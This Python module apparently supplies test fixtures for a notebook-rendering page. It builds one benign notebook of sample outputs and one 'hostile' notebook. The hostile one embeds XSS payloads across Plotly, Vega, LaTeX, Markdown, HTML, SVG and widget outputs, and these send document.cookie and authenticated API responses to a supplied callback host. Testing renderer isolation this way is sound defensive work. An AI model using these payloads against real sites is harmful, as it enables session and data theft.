"""A notebook that displays one of everything that a run's page shows, with real libraries where they are."""

from __future__ import annotations

import json

from nbformat import NotebookNode

from support.notebooks import notebook

PROSE = """md:# Quarterly report

Energy is $E = mc^2$, and <b>bold</b> text; see [the notes](https://example.org/notes)."""
BOKEH = """\
from bokeh.io import output_notebook, show
from bokeh.plotting import figure
output_notebook()
chart = figure(height=240, width=420, title="A line of Bokeh")
chart.line([1, 2, 3, 4], [4, 7, 2, 5], line_width=3)
show(chart)"""
PLOTLY = """\
display({
    "application/vnd.plotly.v1+json": {
        "data": [{"type": "bar", "x": ["a", "b", "c"], "y": [3, 1, 2], "name": "bars"}],
        "layout": {"title": {"text": "Bars of Plotly"}, "height": 300},
    },
    "text/plain": "Figure({...})",
}, raw=True)"""
VEGA = """\
display({
    "application/vnd.vegalite.v5+json": {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "title": "Points of Vega",
        "data": {"values": [{"x": 1, "y": 3}, {"x": 2, "y": 1}, {"x": 3, "y": 4}]},
        "mark": "point",
        "encoding": {axis: {"field": axis, "type": "quantitative"} for axis in "xy"},
        "transform": [{"calculate": "datum.x * 2", "as": "x"}],
    },
    "text/plain": "<VegaLite>",
}, raw=True)"""
WIDGET = """\
import ipywidgets
ipywidgets.VBox([ipywidgets.IntSlider(value=7, max=9, description="Seven"), ipywidgets.Label("under it")])"""
LATEX = "from IPython.display import Latex\nLatex(r'$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$')"
PICTURE = """\
import base64, io
from IPython.display import Image
from PIL import Image as Pixels
file = io.BytesIO()
Pixels.new("RGBA", (400, 200), (44, 123, 182, 255)).save(file, "PNG")
Image(file.getvalue(), width=120, height=60)"""
TERMINAL = """\
import sys
print("\\x1b[3mitalic\\x1b[0m \\x1b[7minverse\\x1b[0m \\x1b[1;31mred\\x1b[0m see https://example.org/a?b=1.")
print("a warning", file=sys.stderr)"""
TABLE = "import pandas\npandas.DataFrame({'price': [1.5, 2.25], 'name': ['tea', 'milk']})"
CDN = """\
from IPython.display import HTML, display
display(HTML('<div id="p"></div><script src="https://cdn.plot.ly/plotly-3.0.0.min.js" '
  'integrity="sha256-x" crossorigin="anonymous"></script>'
  '<script>Plotly.newPlot("p", [{y: [1, 2]}])</script>'))
display(HTML('<p>far</p><script src="https://charts.example.org/chart.js"></script>'))
display({"application/x-unknown": "1"}, raw=True)"""
FAILS = "prices = {'tea': 3}\nprices['coffee']"


def rich_notebook() -> NotebookNode:
    """Return the notebook; cells by their place: prose 0, Bokeh 1, Plotly 2, Vega 3, and so on, as above."""
    cells = [PROSE, BOKEH, PLOTLY, VEGA, WIDGET, LATEX, PICTURE, TERMINAL, TABLE, CDN, FAILS]
    return notebook(*cells)


LONG_LOG = """\
import time
for part in range(20):
    for number in range(5000):
        print(part * 5000 + number, "of a long log", "x" * 84)
    time.sleep(0.2)
print("the very last line")"""
"""Prints 10 MB, and goes on for a moment."""


def hostile_notebook(elsewhere: str) -> NotebookNode:
    """Return a notebook each of whose outputs tries to reach the page, its cookies and the network.

    Args:
        elsewhere: address that hears of it when one gets through.
    """
    attack = (
        "try{parent.document.title='harmed'}catch(e){}"
        "try{top.postMessage({respawnHeight:'<b>',respawnTheme:'x'},'*')}catch(e){}"
        f"try{{fetch('{elsewhere}/fetch?'+document.cookie)}}catch(e){{fetch('{elsewhere}/fetch')}}"
        "fetch('/services/respawn/api/v1/jobs',{credentials:'include'}).then(a=>a.text())"
        ".then(t=>{new Image().src="
        f"'{elsewhere}/stolen?'+t}}).catch(()=>{{}});"
        f"new Image().src='{elsewhere}/image';"
        f"try{{top.location='{elsewhere}/top'}}catch(e){{}};"
        f"try{{open('{elsewhere}/popup')}}catch(e){{}};"
        f"setTimeout(()=>{{location='{elsewhere}/frame'}},200)"
    )
    markup = (
        f'</script><script>{attack}</script><img src="x" onerror="{attack}"><svg onload="{attack}"></svg>'
    )
    link = f'<a href="javascript:{attack}">x</a>'
    bundles: list[dict[str, object]] = [
        {
            "application/vnd.plotly.v1+json": {
                "data": [{"y": [1, 2], "name": markup, "text": [markup, link], "mode": "text"}],
                "layout": {
                    "title": {"text": markup + link},
                    "images": [{"source": f"{elsewhere}/plotly.png", "xref": "paper", "yref": "paper"}],
                },
                "config": {"plotlyServerURL": elsewhere, "showSendToCloud": True},
            }
        },
        {
            "application/vnd.vegalite.v5+json": {
                "title": markup,
                "data": {"url": f"{elsewhere}/vega.json"},
                "mark": {"type": "image", "width": 9, "height": 9},
                "encoding": {
                    "url": {"value": f"{elsewhere}/vega.png"},
                    "href": {"value": f"javascript:{attack}"},
                },
            }
        },
        {
            "application/vnd.vega.v5+json": {
                "signals": [{"name": "s", "update": f"constructor.constructor({json.dumps(attack)})()"}],
                "marks": [],
            }
        },
        {"text/latex": f"$$\\href{{javascript:{attack}}}{{x}}$$ {markup}"},
        {"text/markdown": f"# {markup} {link}\n\n$x$ ![p]({elsewhere}/markdown.png)"},
        {"text/html": markup + link + f'<meta http-equiv="refresh" content="0;url={elsewhere}/refresh">'},
        {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack}">'
            f"<script>{attack}</script></svg>"
        },
        {"application/javascript": attack},
    ]
    shows = [f"display({bundle!r}, raw=True)" for bundle in bundles]
    widget = f"import ipywidgets\nipywidgets.HTML({markup!r})"
    bokeh = (
        'display({"text/html": "<div id=e data-root-id=p></div>"}, raw=True)\n'
        f'display({{"application/javascript": {attack!r}, '
        '"application/vnd.bokehjs_exec.v0+json": ""}, raw=True)'
    )
    return notebook(f"md:{markup}", *shows, widget, bokeh, f"print({markup!r})")
